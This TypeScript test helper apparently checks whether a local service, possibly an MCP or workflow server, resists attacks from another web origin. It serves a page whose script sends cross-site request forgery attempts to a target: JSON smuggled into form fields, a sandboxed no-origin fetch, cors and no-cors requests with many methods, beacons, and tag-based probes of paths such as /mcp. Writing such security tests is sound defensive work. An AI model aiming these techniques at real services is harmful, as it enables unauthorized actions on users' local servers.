import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A web site of another origin. Its page tries what is said, and reports once it has. */
export interface HostileSite {
  readonly port: number;
  /** What its page tries, once it is opened. */
  aim(target: string, attempts: readonly Attempt[]): void;
  /** Resolves with what the page could read of the answers. */
  readonly report: Promise<readonly string[]>;
  close(): void;
}

/** What the page asks of the service, each in every way that a browser knows. */
export interface Attempt {
  readonly path: string;
  readonly body: string;
}

export async function hostileSite(): Promise<HostileSite> {
  let html = '';
  let hear: (read: readonly string[]) => void = () => undefined;
  const report = new Promise<readonly string[]>((resolve) => (hear = resolve));
  const server: Server = createServer((request, response) => {
    if (request.method === 'POST') {
      let text = '';
      request.on('data', (chunk: Buffer) => (text += chunk.toString()));
      request.on('end', () => hear(JSON.parse(text) as readonly string[]));
      response.end();
      return;
    }
    response.setHeader('Content-Type', 'text/html');
    response.end(request.url === '/' ? html : '');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    report,
    aim: (target, attempts) => {
      html = page(target, attempts);
    },
    close: () => {
      server.close();
      server.closeAllConnections();
    },
  };
}

/** The page as it is sent. What it can read is what the browser lets it: of another origin, nothing. */
function page(target: string, attempts: readonly Attempt[]): string {
  return `<!doctype html><meta charset="utf-8"><body><script type="module">
const target = ${JSON.stringify(target)};
const attempts = ${JSON.stringify(attempts)};
const read = [];
const settled = (promise) => promise.then(() => undefined, () => undefined);

/** A form whose only field is the JSON, cut at the equals sign that the encoding puts there. */
function submit({ path, body }, enctype, more = {}) {
  return new Promise((resolve) => {
    const frame = document.createElement('iframe');
    Object.assign(frame, { name: 'frame' + Math.random() });
    if (more.sandbox) frame.sandbox = 'allow-forms';
    document.body.append(frame);
    const form = Object.assign(document.createElement('form'), { method: 'POST', action: target + path, enctype, target: frame.name });
    if (more.noReferrer) form.rel = 'noreferrer';
    const [name, value] = [body.slice(0, -1) + ',"x":"', '"}'];
    form.append(Object.assign(document.createElement('input'), { name, value }));
    document.body.append(form);
    frame.onload = resolve;
    setTimeout(resolve, 5_000);
    form.submit();
  });
}

/** The same from a frame without an origin. */
function fromSandbox({ path, body }) {
  return new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.sandbox = 'allow-scripts';
    const inner = 'fetch(' + JSON.stringify(target + path) + ', {method: "POST", mode: "no-cors", body: ' + JSON.stringify(body) + '}).finally(() => parent.postMessage("done", "*"))';
    frame.srcdoc = '<script>' + inner + '<' + '/script>';
    addEventListener('message', resolve, { once: true });
    setTimeout(resolve, 5_000);
    document.body.append(frame);
  });
}

async function ask(path, options) {
  const answer = await fetch(target + path, options);
  const text = await answer.text();
  if (text !== '') read.push(path + ' ' + text);
}

function load(tag, attribute, path) {
  return new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = element.onerror = resolve;
    setTimeout(resolve, 5_000);
    element[attribute] = target + path;
    document.body.append(element);
  });
}

for (const attempt of attempts) {
  const { path, body } = attempt;
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) await submit(attempt, enctype);
  await submit(attempt, 'text/plain', { noReferrer: true });
  await fromSandbox(attempt);
  for (const mode of ['cors', 'no-cors']) {
    for (const type of ['text/plain', 'application/json']) {
      for (const method of ['POST', 'PUT', 'PATCH', 'DELETE']) {
        await settled(ask(path, { method, mode, body, headers: { 'content-type': type }, referrerPolicy: 'no-referrer' }));
      }
    }
  }
  await settled(ask(path, { method: 'POST', body, keepalive: true }));
  navigator.sendBeacon(target + path, body);
}
for (const path of ['/mcp', '/workflows', '/health', ...attempts.map((attempt) => attempt.path)]) {
  await settled(ask(path, {}));
  await load('img', 'src', path);
  await load('script', 'src', path);
  await load('iframe', 'src', path);
}
await fetch('/report', { method: 'POST', body: JSON.stringify(read) });
</script>`;
}
